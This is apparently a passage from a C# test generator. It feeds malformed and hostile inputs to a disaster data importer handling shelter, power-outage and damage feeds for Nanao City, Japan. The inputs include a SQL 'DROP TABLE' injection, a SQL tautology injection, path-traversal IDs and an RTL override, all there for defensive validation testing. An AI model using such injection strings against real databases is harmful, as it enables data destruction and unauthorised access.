        foreach (var (name, lat, lon, expect) in new (string, string, string, Expect)[]
                 {
                     ("lat_91", "91", "136.96", Expect.Reject), ("lat_minus_91", "-91", "136.96", Expect.Reject),
                     ("lon_181", "37.04", "181", Expect.Reject), ("lon_minus_181", "37.04", "-181", Expect.Reject),
                     ("lat_90_lon_180", "90", "180", Expect.Reject), ("null_island", "0", "0", Expect.Reject),
                     ("neg_zero", "-0.0", "-0.0", Expect.Reject), ("denormal", "4.9e-324", "4.9e-324", Expect.Reject),
                     ("lat_1e308", "1e308", "136.96", Expect.Reject), ("lon_huge_exp", "37.04", "1e400", Expect.Reject),
                     ("swapped", "136.96136", "37.04826", Expect.Accept),
                     ("swapped_outside_japan", "-122.4", "37.77", Expect.Reject),
                     ("nan_string", "\"NaN\"", "\"NaN\"", Expect.Reject), ("infinity_string", "\"Infinity\"", "136.96", Expect.Reject),
                     ("neg_infinity_string", "37.04", "\"-Infinity\"", Expect.Reject), ("numeric_strings", "\"37.04\"", "\"136.96\"", Expect.Reject),
                     ("lat_only", "37.04", "null", Expect.Reject), ("bool_coords", "true", "false", Expect.Reject),
                     ("array_coords", "[37.04]", "[136.96]", Expect.Reject),
                     ("epsg6675_metres_as_lonlat", "-34567.8", "12345.6", Expect.Reject),
                     ("utm_metres_as_lonlat", "4100000", "500000", Expect.Reject),
                     ("web_mercator_metres", "4445000.0", "15246000.0", Expect.Reject),
                     ("tokyo_datum_offset_ok", "37.0450", "136.9680", Expect.Accept),
                     ("outside_japan_extent", "51.5", "-0.12", Expect.Reject),
                 })
            yield return S($"coord/{name}", uid => Shelter(uid, $"\"evacuees\":1,\"lat\":{lat},\"lon\":{lon}"), expect);

        // a CRS label that does not match the numbers (Digital Agency GeoJSON)
        foreach (var (name, crs, x, y, expect) in new (string, string, string, string, Expect)[]
                 {
                     ("geojson_crs84_with_metres", "urn:ogc:def:crs:OGC:1.3:CRS84", "-34567.8", "12345.6", Expect.Reject),
                     ("geojson_6675_with_degrees", "urn:ogc:def:crs:EPSG::6675", "136.96", "37.04", Expect.Reject),
                     ("geojson_unknown_crs", "urn:ogc:def:crs:EPSG::99999", "136.96", "37.04", Expect.Reject),
                     ("geojson_crs_injection", "EPSG:4326'; DROP TABLE feature; --", "136.96", "37.04", Expect.Tolerate),
                     ("geojson_nan_coords", "urn:ogc:def:crs:OGC:1.3:CRS84", "\"NaN\"", "\"NaN\"", Expect.Reject),
                 })
            yield return S($"coord/{name}", uid =>
                "{\"type\":\"FeatureCollection\",\"crs\":{\"type\":\"name\",\"properties\":{\"name\":\"" + crs + "\"}},\"features\":["
                + "{\"type\":\"Feature\",\"properties\":{\"ID\":\"" + uid + "\",\"名称\":\"架空" + uid + "\",\"所在地_連結表記\":\"石川県七尾市架空町1\",\"所在地_都道府県\":\"石川県\",\"所在地_市区町村\":\"七尾市\"},"
                + "\"geometry\":{\"type\":\"Point\",\"coordinates\":[" + x + "," + y + "]}}]}", expect, format: "da-shelter-geojson");

        // DA CSV coordinates in metres / swapped / NaN text
        foreach (var (name, lat, lon, expect) in new (string, string, string, Expect)[]
                 {
                     ("csv_metres", "-34567.8", "12345.6", Expect.Reject), ("csv_nan", "NaN", "NaN", Expect.Reject),
                     ("csv_infinity", "Infinity", "-Infinity", Expect.Reject), ("csv_swapped", "136.965", "37.045", Expect.Accept),
                     ("csv_dms_text", "37°02'42\"N", "136°57'54\"E", Expect.Reject), ("csv_comma_decimal", "\"37,045\"", "\"136,965\"", Expect.Reject),
                     ("csv_fullwidth_digits", "３７．０４５", "１３６．９６５", Expect.Tolerate),
                 })
            yield return S($"coord/{name}", uid => $"ID,名称,所在地_連結表記,緯度,経度,市区町村コード\n{uid},架空{uid},石川県七尾市架空町1,{lat},{lon},172022\n", expect, format: "da-shelter-csv", type: "text/csv");

        // municipality codes (nanao-city's jurisdiction is 172022)
        foreach (var (name, code, expect) in new (string, string, Expect)[]
                 {
                     ("bad_check_digit", "\"172023\"", Expect.Reject), ("five_digit_own", "\"17202\"", Expect.Accept),
                     ("five_digit_other_city", "\"17204\"", Expect.Reject), ("other_city_wajima", "\"172049\"", Expect.Reject),
                     ("other_prefecture_chiyoda", "\"131016\"", Expect.Reject), ("prefecture_code", "\"170003\"", Expect.Reject),
                     ("all_nines", "\"999999\"", Expect.Reject), ("all_zeros", "\"000000\"", Expect.Reject),
                     ("four_digits", "\"1720\"", Expect.Reject), ("seven_digits", "\"1720222\"", Expect.Reject),
                     ("letters", "\"ABCDEF\"", Expect.Reject), ("empty_string", "\"\"", Expect.Reject),
                     ("fullwidth_digits", "\"１７２０２２\"", Expect.Tolerate), ("numeric", "172022", Expect.Tolerate),
                     ("negative", "\"-17202\"", Expect.Reject), ("decimal_five", "\"17202.0\"", Expect.Tolerate),
                     ("sql_injection", "\"172022' OR '1'='1\"", Expect.Reject), ("huge_number", "1e400", Expect.Reject),
                     ("object", "{\"code\":\"172022\"}", Expect.Reject),
                 })
            yield return S($"code/{name}", uid => Shelter(uid, $"\"evacuees\":1,{GoodPoint}", docCode: code), expect);
        // per-shelter code overriding a good document code
        yield return S("code/item_overrides_to_other_city", uid => Shelter(uid, $"\"municipality_code\":\"172049\",{GoodPoint}"), Expect.Reject);
        yield return S("code/item_bad_check_digit", uid => Shelter(uid, $"\"municipality_code\":\"172020\",{GoodPoint}"), Expect.Reject);
        yield return S("code/power_other_city", uid => $$"""{"utility":"架空電力","observed_at":"2026-11-22T09:00:00+09:00","areas":[{"id":"{{uid}}","municipality_code":"131016","customers_out":5}]}""", Expect.Reject, PowerSource, "power-push-json");
        yield return S("code/power_bad_check_digit", uid => $$"""{"utility":"架空電力","observed_at":"2026-11-22T09:00:00+09:00","areas":[{"id":"{{uid}}","municipality_code":"172029","customers_out":5}]}""", Expect.Reject, PowerSource, "power-push-json");
        yield return S("code/damage_other_city", uid => $$"""{"reported_at":"2026-11-22T10:00:00+09:00","disaster_name":"{{uid}}","municipalities":[{"municipality_code":"172049","deaths":0}]}""", Expect.Reject, DamageSource, "fdma-damage-json");
        yield return S("code/damage_unknown_code", uid => $$"""{"reported_at":"2026-11-22T10:00:00+09:00","disaster_name":"{{uid}}","municipalities":[{"municipality_code":"179999","deaths":0}]}""", Expect.Reject, DamageSource, "fdma-damage-json");

        // timestamps
        foreach (var (name, ts, expect) in new (string, string, Expect)[]
                 {
                     ("year_1800", "\"1800-01-01T00:00:00+09:00\"", Expect.Tolerate),
                     ("year_9999", "\"9999-12-31T23:59:59+09:00\"", Expect.Reject),
                     ("year_9999_negative_offset", "\"9999-12-31T23:59:59-09:00\"", Expect.Reject),
                     ("year_0001_positive_offset", "\"0001-01-01T00:00:00+09:00\"", Expect.Reject),
                     ("hundred_years_ahead", "\"2126-11-22T09:00:00+09:00\"", Expect.Reject),
                     ("no_zone", "\"2026-11-22T09:00:00\"", Expect.Reject),
                     ("date_only", "\"2026-11-22\"", Expect.Reject),
                     ("feb_30", "\"2026-02-30T09:00:00+09:00\"", Expect.Reject),
                     ("hour_25", "\"2026-11-22T25:00:00+09:00\"", Expect.Reject),
                     ("offset_25h", "\"2026-11-22T09:00:00+25:00\"", Expect.Reject),
                     ("nine_fraction_digits", "\"2026-11-22T09:00:00.123456789+09:00\"", Expect.Reject),
                     ("epoch_number", "1795363200", Expect.Reject),
                     ("wareki_text", "\"令和8年11月22日\"", Expect.Reject),
                     ("expanded_year", "\"+002026-11-22T09:00:00Z\"", Expect.Reject),
                     ("utc_z_ok", "\"2026-11-22T00:00:00Z\"", Expect.Accept),
                 })
        {
            yield return S($"time/{name}", uid => Shelter(uid, $"\"evacuees\":1,{GoodPoint},\"observed_at\":{ts}"), expect);
            if (name is "year_9999" or "no_zone" or "hundred_years_ahead" or "feb_30")
                yield return S($"time/power_eta_{name}", uid => $$"""{"utility":"架空電力","observed_at":"2026-11-22T09:00:00+09:00","areas":[{"id":"{{uid}}","municipality_code":"172022","customers_out":5,"observed_at":{{ts}}}]}""", Expect.Reject, PowerSource, "power-push-json");
        }

        // counts
        foreach (var (name, field, value, expect) in new (string, string, string, Expect)[]
                 {
                     ("evacuees_negative", "evacuees", "-1", Expect.Reject), ("evacuees_fraction", "evacuees", "1.5", Expect.Reject),
                     ("evacuees_over_int", "evacuees", "2147483648", Expect.Reject), ("evacuees_string", "evacuees", "\"100\"", Expect.Reject),
                     ("evacuees_bool", "evacuees", "true", Expect.Reject), ("evacuees_neg_zero", "evacuees", "-0", Expect.Tolerate),
                     ("evacuees_exp_form", "evacuees", "1e2", Expect.Tolerate), ("capacity_negative", "capacity", "-5", Expect.Reject),
                     ("capacity_huge", "capacity", "1e400", Expect.Reject), ("status_unknown_word", "status", "\"たぶん開いてる\"", Expect.Reject),
                     ("status_number", "status", "123", Expect.Reject), ("status_empty", "status", "\"\"", Expect.Reject),
                 })
            yield return S($"count/{name}", uid => Shelter(uid, $"\"{field}\":{value},{GoodPoint}").Replace("\"status\":\"開設\",\"status\"", "\"status\"", StringComparison.Ordinal), expect);
        foreach (var (name, area, expect) in new (string, string, Expect)[]
                 {
                     ("power_out_negative", "\"customers_out\":-1", Expect.Reject),
                     ("power_out_over_served", "\"customers_out\":50,\"customers_served\":10", Expect.Reject),
                     ("power_out_missing", "\"customers_served\":10", Expect.Reject),
                     ("power_out_fraction", "\"customers_out\":0.5", Expect.Reject),
                     ("power_eta_revision_negative", "\"customers_out\":1,\"eta_revision\":-3", Expect.Reject),
                 })
            yield return S($"count/{name}", uid => $$"""{"utility":"架空電力","observed_at":"2026-11-22T09:00:00+09:00","areas":[{"id":"{{uid}}","municipality_code":"172022",{{area}}}]}""", expect, PowerSource, "power-push-json");
        foreach (var (name, fields, expect) in new (string, string, Expect)[]
                 {
                     ("damage_deaths_negative", "\"deaths\":-1", Expect.Reject),
                     ("damage_deaths_fraction", "\"deaths\":0.5", Expect.Reject),
                     ("damage_deaths_string", "\"deaths\":\"many\"", Expect.Reject),
                 })
            yield return S($"count/{name}", uid => $$"""{"reported_at":"2026-11-22T10:00:00+09:00","disaster_name":"{{uid}}","municipalities":[{"municipality_code":"172022",{{fields}}}]}""", expect, DamageSource, "fdma-damage-json");

        // ids
        yield return S("id/missing", _ => """{"municipality_code":"172022","shelters":[{"name":"x","lat":37.04,"lon":136.96}]}""", Expect.Reject);
        yield return S("id/empty", _ => """{"municipality_code":"172022","shelters":[{"id":"","name":"x","lat":37.04,"lon":136.96}]}""", Expect.Reject);
        yield return S("id/null", _ => """{"municipality_code":"172022","shelters":[{"id":null,"name":"x","lat":37.04,"lon":136.96}]}""", Expect.Reject);
        yield return S("id/object", _ => """{"municipality_code":"172022","shelters":[{"id":{"a":1},"name":"x","lat":37.04,"lon":136.96}]}""", Expect.Reject);
        yield return S("id/very_long", uid => Shelter(uid + new string('x', 100_000), $"\"evacuees\":1,{GoodPoint}"), Expect.Tolerate);
        yield return S("id/path_traversal", uid => Shelter("../../" + uid + "/%2e%2e", $"\"evacuees\":1,{GoodPoint}"), Expect.Tolerate);
        yield return S("id/rtl_override", uid => Shelter("\u202E" + uid, $"\"evacuees\":1,{GoodPoint}"), Expect.Tolerate);
        yield return S("id/no_location_unknown_shelter", uid => Shelter(uid, "\"evacuees\":1"), Expect.Reject);
    }
}
